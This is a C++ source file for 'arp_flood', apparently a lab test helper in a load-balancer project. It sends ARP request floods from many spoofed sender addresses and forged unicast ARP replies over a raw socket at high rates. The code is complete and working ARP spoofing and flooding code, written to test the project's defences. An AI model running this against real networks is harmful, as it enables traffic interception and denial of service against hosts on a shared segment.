// arp_flood: the ARP attack generator of tests/lab/arp_attack_test.sh (issue 12, findings 4-6).
// Builds every frame with the director's own codec (packet/arp_frame.h) and sends them through
// an AF_PACKET socket with sendmmsg(), flat out or at a fixed rate, then prints what it sent:
//
//   arp_flood --interface eth0 --mode request --count 100000 --target-ip 10.200.0.2
//             --spoof-from 10.100.0.1                        who-has from 100k distinct senders
//   arp_flood --interface eth0 --mode reply --count 200000 --sender-ip 10.200.0.12
//             --target-ip 10.200.0.2 --dst-mac 02:00:00:00:00:02   forged "10.200.0.12 is-at me"
//   -> sent=200000 failed=0 seconds=1.234 pps=162074.6
//
// request: broadcast "who-has TARGET tell SENDER". With --spoof-from BASE, frame i comes from
//   sender IP BASE+i with its own MAC 02:5e:xx:xx:xx:xx (the Ethernet source too), so every
//   frame is a new station; without it, from the interface's address and MAC.
// reply: "SENDER is-at MAC" unicast to --dst-mac (the victim), target TARGET; MAC defaults to
//   the interface's own (an attacker claiming an address for itself).
// Options: [--rate PPS] (0: flat out) [--batch N] (frames per sendmmsg, default 64)
//          [--sender-mac MAC]
//
// Lab use only: it sends on the interface it is given, and the lab test runs it inside its own
// attacker namespace.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <optional>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

#include "config/net_address.h"
#include "packet/arp_frame.h"

namespace {

using Clock = std::chrono::steady_clock;
using lvs::Ipv4;
using lvs::MacAddress;

[[noreturn]] void usage_error(const std::string& message) {
  std::fprintf(stderr,
               "arp_flood: %s\nusage: arp_flood --interface IF --mode request|reply --count N "
               "--target-ip A [--sender-ip A] [--spoof-from A] [--dst-mac M] [--sender-mac M] "
               "[--rate PPS] [--batch N]\n",
               message.c_str());
  std::exit(2);
}

struct Options {
  std::string interface;
  bool reply = false;
  std::uint64_t count = 0;
  Ipv4 target_ip = 0;
  Ipv4 sender_ip = 0;
  Ipv4 spoof_from = 0;
  std::optional<MacAddress> dst_mac;
  std::optional<MacAddress> sender_mac;
  std::uint64_t rate = 0;
  std::size_t batch = 64;
};

std::uint64_t number(std::string_view flag, std::string_view value) {
  char* end = nullptr;
  const std::string text(value);
  const unsigned long long n = std::strtoull(text.c_str(), &end, 10);
  if (text.empty() || *end != '\0') usage_error(std::string(flag) + ": not a number: " + text);
  return n;
}

Options parse(int argc, char** argv) {
  Options o;
  bool mode_given = false;
  for (int i = 1; i < argc; i += 2) {
    const std::string_view flag = argv[i];
    if (i + 1 >= argc) usage_error(std::string(flag) + " needs a value");
    const std::string_view value = argv[i + 1];
    auto ip = [&] {
      auto a = lvs::parse_ipv4(value);
      if (!a) usage_error(std::string(flag) + ": not IPv4: " + std::string(value));
      return *a;
    };
    auto mac = [&] {
      auto m = lvs::parse_mac(value);
      if (!m) usage_error(std::string(flag) + ": not a MAC: " + std::string(value));
      return *m;
    };
    if (flag == "--interface") {
      o.interface = value;
    } else if (flag == "--mode") {
      if (value != "request" && value != "reply") usage_error("--mode is request or reply");
      o.reply = value == "reply";
      mode_given = true;
    } else if (flag == "--count") {
      o.count = number(flag, value);
    } else if (flag == "--target-ip") {
      o.target_ip = ip();
    } else if (flag == "--sender-ip") {
      o.sender_ip = ip();
    } else if (flag == "--spoof-from") {
      o.spoof_from = ip();
    } else if (flag == "--dst-mac") {
      o.dst_mac = mac();
    } else if (flag == "--sender-mac") {
      o.sender_mac = mac();
    } else if (flag == "--rate") {
      o.rate = number(flag, value);
    } else if (flag == "--batch") {
      o.batch = static_cast<std::size_t>(number(flag, value));
    } else {
      usage_error("unknown option " + std::string(flag));
    }
  }
  if (o.interface.empty() || !mode_given || o.count == 0 || o.target_ip == 0) {
    usage_error("--interface, --mode, --count and --target-ip are required");
  }
  if (o.reply && (!o.dst_mac || o.sender_ip == 0))
    usage_error("reply needs --dst-mac and --sender-ip");
  if (o.batch == 0 || o.batch > 1024) usage_error("--batch is 1..1024");
  return o;
}

}  // namespace

int main(int argc, char** argv) {
  const Options o = parse(argc, argv);
  const int fd = socket(AF_PACKET, SOCK_RAW, 0);  // protocol 0: send-only
  if (fd < 0) {
    std::perror("arp_flood: socket(AF_PACKET) (needs CAP_NET_RAW)");
    return 1;
  }
  ifreq ifr{};
  if (o.interface.size() >= sizeof(ifr.ifr_name)) usage_error("interface name too long");
  std::memcpy(ifr.ifr_name, o.interface.c_str(), o.interface.size());
  if (ioctl(fd, SIOCGIFINDEX, &ifr) < 0) {
    std::perror("arp_flood: SIOCGIFINDEX");
    return 1;
  }
  const int ifindex = ifr.ifr_ifindex;
  MacAddress if_mac{};
  if (ioctl(fd, SIOCGIFHWADDR, &ifr) == 0) std::memcpy(if_mac.data(), ifr.ifr_hwaddr.sa_data, 6);
  Ipv4 if_ip = 0;
  ifreq ifa{};
  std::memcpy(ifa.ifr_name, o.interface.c_str(), o.interface.size());
  ifa.ifr_addr.sa_family = AF_INET;
  if (ioctl(fd, SIOCGIFADDR, &ifa) == 0) {
    if_ip = ntohl(reinterpret_cast<sockaddr_in*>(&ifa.ifr_addr)->sin_addr.s_addr);
  }
  const int one = 1;
  setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));  // best effort

  auto frame_at = [&](std::uint64_t i) {
    lvs::ArpPacket p;
    p.op = o.reply ? lvs::ArpOp::Reply : lvs::ArpOp::Request;
    p.eth_source = o.sender_mac.value_or(if_mac);
    p.sender_mac = p.eth_source;
    p.sender_ip = o.sender_ip != 0 ? o.sender_ip : if_ip;
    p.target_ip = o.target_ip;
    if (o.reply) {
      p.eth_destination = *o.dst_mac;
      p.target_mac = *o.dst_mac;
    } else {
      p.eth_destination = o.dst_mac.value_or(lvs::kBroadcastMac);
      if (o.spoof_from != 0) {
        p.sender_ip = o.spoof_from + static_cast<Ipv4>(i);
        const auto n = static_cast<std::uint32_t>(i);
        p.sender_mac = {0x02,
                        0x5e,
                        static_cast<std::uint8_t>(n >> 24),
                        static_cast<std::uint8_t>(n >> 16),
                        static_cast<std::uint8_t>(n >> 8),
                        static_cast<std::uint8_t>(n)};
        p.eth_source = p.sender_mac;
      }
    }
    return lvs::build_arp_frame(p);
  };

  std::vector<lvs::ArpFrameBytes> frames(o.batch);
  std::vector<iovec> iov(o.batch);
  std::vector<mmsghdr> msgs(o.batch);
  sockaddr_ll to{};
  to.sll_family = AF_PACKET;
  to.sll_ifindex = ifindex;
  to.sll_halen = 6;

  std::uint64_t sent = 0;
  std::uint64_t failed = 0;
  const Clock::time_point start = Clock::now();
  while (sent + failed < o.count) {
    if (o.rate != 0) {  // pace: never ahead of rate * elapsed
      const double elapsed = std::chrono::duration<double>(Clock::now() - start).count();
      if (static_cast<double>(sent + failed) > elapsed * static_cast<double>(o.rate)) {
        std::this_thread::sleep_for(std::chrono::microseconds(200));
        continue;
      }
    }
    const std::size_t want =
        static_cast<std::size_t>(std::min<std::uint64_t>(o.batch, o.count - sent - failed));
    for (std::size_t k = 0; k < want; ++k) {
      frames[k] = frame_at(sent + failed + k);
      iov[k] = {frames[k].data(), frames[k].size()};
      msgs[k] = {};
      msgs[k].msg_hdr.msg_iov = &iov[k];
      msgs[k].msg_hdr.msg_iovlen = 1;
      msgs[k].msg_hdr.msg_name = &to;
      msgs[k].msg_hdr.msg_namelen = sizeof(to);
    }
    const int n = sendmmsg(fd, msgs.data(), static_cast<unsigned>(want), 0);
    if (n < 0) {
      if (errno == EINTR) continue;
      if (errno == ENOBUFS || errno == EAGAIN) {
        std::this_thread::sleep_for(std::chrono::microseconds(100));
        continue;  // the device queue is full: wait, do not count a loss we caused
      }
      ++failed;  // skip one frame so a persistent error cannot loop forever
      continue;
    }
    sent += static_cast<std::uint64_t>(n);
  }
  const double seconds = std::chrono::duration<double>(Clock::now() - start).count();
  std::printf("sent=%llu failed=%llu seconds=%.3f pps=%.1f\n",
              static_cast<unsigned long long>(sent), static_cast<unsigned long long>(failed),
              seconds, seconds > 0 ? static_cast<double>(sent) / seconds : 0.0);
  close(fd);
  return failed == 0 ? 0 : 1;
}
